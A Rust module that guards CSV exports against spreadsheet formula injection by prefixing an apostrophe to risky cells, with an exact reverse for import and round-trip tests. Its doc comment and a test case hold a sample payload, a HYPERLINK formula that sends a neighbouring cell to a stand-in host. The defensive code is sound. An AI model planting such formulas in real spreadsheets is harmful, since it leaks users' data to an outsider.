//! Text cells a spreadsheet would run as a formula (*CSV injection*): Czech Excel reads a CSV cell that
//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so a project named
//! `=HYPERLINK("http://x/?"&A1;"Detail")` would become a link that sends the neighbouring cell away.
//!
//! The CSV export writes such a text with a leading `'` ([`guard_formula`]), which spreadsheets show as
//! text; the importer takes that `'` off again ([`unguard_formula`]), so an exported list imports back
//! unchanged. A text that already starts with `'` before such a character gets one more, so the pair is
//! exact for every text.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// True when `text`, after any leading `'`, starts like a formula.
fn needs_guard(text: &str) -> bool {
    text.trim_start_matches('\'')
        .starts_with(FORMULA_STARTS.as_slice())
}

/// The text as a spreadsheet cell may hold it: with a leading `'` when it would start a formula.
#[must_use]
pub fn guard_formula(text: &str) -> Cow<'_, str> {
    if needs_guard(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text of a spreadsheet cell without the `'` that [`guard_formula`] added (one, and only before a
/// formula's first character).
#[must_use]
pub fn unguard_formula(mut text: String) -> String {
    if text.strip_prefix('\'').is_some_and(needs_guard) {
        text.remove(0);
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn texts_that_start_a_formula_get_an_apostrophe() {
        for (text, guarded) in [
            (
                r#"=HYPERLINK("http://x/?"&A1;"Detail")"#,
                r#"'=HYPERLINK("http://x/?"&A1;"Detail")"#,
            ),
            ("+420 123", "'+420 123"),
            ("-5", "'-5"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
        ] {
            assert_eq!(guard_formula(text), guarded);
            assert_eq!(unguard_formula(guarded.to_owned()), text);
        }
    }

    #[test]
    fn other_texts_are_left_alone() {
        for text in ["Nová etapa", "", "'", "'quoted'", "a=b", " =x", "12345679"] {
            assert_eq!(guard_formula(text), text);
            assert_eq!(unguard_formula(text.to_owned()), text);
        }
    }
}
